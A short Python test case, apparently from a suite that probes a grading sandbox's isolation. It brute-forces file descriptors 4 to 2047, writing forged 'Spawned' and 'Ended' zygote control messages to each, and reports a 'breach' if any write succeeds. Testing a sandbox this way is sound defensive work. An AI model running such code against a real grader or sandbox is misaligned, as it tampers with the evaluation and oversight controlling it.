# /// attack
# title = "Looks for the zygote's control socket and gives orders on it"
# ///
import os
import socket

from grader.wire.frames import HEADER
from grader.wire.zygote_messages import Ended, Spawned
from grader.wire.values import encode
from loot import breach


def attack(*arguments, **keywords):
    done = []
    for number in range(4, 2048):
        for message in (Spawned(1), Ended(os.getpid(), 9)):
            try:
                payload = encode(message)
                os.write(number, HEADER.pack(len(payload)) + payload)
                done.append(number)
            except OSError:
                continue
    return breach(f"wrote to {done}") if done else None
